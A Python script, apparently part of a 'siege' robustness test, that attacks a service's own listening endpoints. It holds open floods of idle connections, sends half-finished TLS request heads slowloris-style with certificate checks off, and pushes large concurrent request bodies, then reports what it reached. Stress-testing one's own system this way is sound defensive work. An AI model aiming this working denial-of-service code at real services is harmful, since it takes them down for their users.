"""The attacks of the siege, run on a host of the cell as an ordinary user: `python3 - ATTACK ARGUMENTS < attacks.py`.

Standard library only, as a stranger would write it; knows nothing of the system but where it listens. Prints one line of
JSON with what it has reached. Called by `siege`.

    idle PATH COUNT SECONDS           connections on which nothing is said
    heads ADDRESS PORT COUNT SECONDS  TLS connections with half a request
    bodies PATH COUNT BYTES SECONDS   that many bodies of that size at the same time, again and again
"""

import asyncio
import json
import resource
import ssl
import sys
import time

HEAD = b"POST /v1/submit HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
#: connections that are made at the same time
AT_ONCE = 200


async def idle(path: str, count: int, seconds: float) -> dict[str, int]:
    """Connections that say nothing, kept open on this side to the end."""
    return await _crowd(lambda: asyncio.open_unix_connection(path), b"", count, seconds)


async def heads(address: str, port: int, count: int, seconds: float) -> dict[str, int]:
    """Half a head each, without any key."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return await _crowd(lambda: asyncio.open_connection(address, port, ssl=context), HEAD[:40], count, seconds)


async def _crowd(connect, said: bytes, count: int, seconds: float) -> dict[str, int]:  # type: ignore[no-untyped-def]
    until = time.monotonic() + seconds
    gate = asyncio.Semaphore(AT_ONCE)
    held, failed = [], 0

    async def one() -> None:
        nonlocal failed
        async with gate:
            if time.monotonic() > until:
                return
            try:
                async with asyncio.timeout(max(0.0, until - time.monotonic())):
                    reader, writer = await connect()
                writer.write(said)
                held.append((reader, writer))
            except (OSError, TimeoutError, ssl.SSLError):
                failed += 1

    await asyncio.gather(*(one() for _ in range(count)))
    opened_s = seconds - (until - time.monotonic())
    await asyncio.sleep(max(0.0, until - time.monotonic()))
    ended = sum(reader.at_eof() or reader.exception() is not None for reader, _ in held)
    return {"opened": len(held), "failed": failed, "held_at_end": len(held) - ended, "opening_s": round(opened_s)}


async def bodies(path: str, count: int, size: int, seconds: float) -> dict[str, int]:
    """Requests that announce `size` bytes and send as many as are taken."""
    until = time.monotonic() + seconds
    tries = sent = 0
    piece = b"x" * 2**18

    async def one() -> None:
        nonlocal tries, sent
        while time.monotonic() < until:
            tries += 1
            try:
                _, writer = await asyncio.open_unix_connection(path)
                writer.write(HEAD + f"Content-Length: {size}\r\n\r\n".encode())
                for _ in range(0, size, len(piece)):
                    async with asyncio.timeout(max(0.0, until - time.monotonic())):
                        writer.write(piece)
                        await writer.drain()
                    sent += len(piece)
                await asyncio.sleep(max(0.0, until - time.monotonic()))
            except (OSError, TimeoutError):
                await asyncio.sleep(0.01)
            finally:
                writer.close()

    await asyncio.gather(*(one() for _ in range(count)))
    return {"tries": tries, "megabytes_taken": sent >> 20}


def main() -> None:
    """Run the attack that the arguments name."""
    attack, *words = sys.argv[1:]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    place, numbers, seconds = words[0], [int(word) for word in words[1:-1]], float(words[-1])
    if attack == "heads":
        play = heads(place, numbers[0], numbers[1], seconds)
    elif attack == "idle":
        play = idle(place, numbers[0], seconds)
    else:
        play = bodies(place, numbers[0], numbers[1], seconds)
    found = asyncio.run(play)
    print(json.dumps(found))


if __name__ == "__main__":
    main()
